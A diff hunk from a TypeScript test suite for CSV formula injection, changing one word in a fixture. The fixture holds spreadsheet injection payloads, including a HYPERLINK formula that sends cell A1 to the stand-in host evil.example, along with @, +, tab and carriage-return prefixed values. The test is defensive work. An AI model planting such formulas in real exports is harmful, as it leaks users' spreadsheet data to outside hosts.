@@ -51,7 +51,7 @@ describe('facts CSV', () => {
 describe('facts CSV: formula injection', () => {
   const HOSTILE =
     '=HYPERLINK("https://evil.example/?q="&A1,"Click") [Italy]{A:place} gave [€5 million]{M:5e6:EUR} to [Chad]{A:place}.\n' +
-    '- [Acme]{A:organization:@SUM(1+1)} lost [$5 million]{M:-5e6:USD} to [Peru]{A:place:+Peru}.\n' +
+    '- [Acme]{A:organization:@SUM(1+1)} paid [$5 million]{M:-5e6:USD} to [Peru]{A:place:+Peru}.\n' +
     '[Spain]{A:place:\tSpain} gave [€2 million]{M:2e6:EUR} to [Mali]{A:place:\rMali} in [2024]{D:2024:2024-01-01:2024-12-31}.\n';
   const doc = fromMarkup(HOSTILE);
   const rowsOf = (csv: string) => parse(csv, { bom: true, columns: true }) as Array<Record<string, string>>;
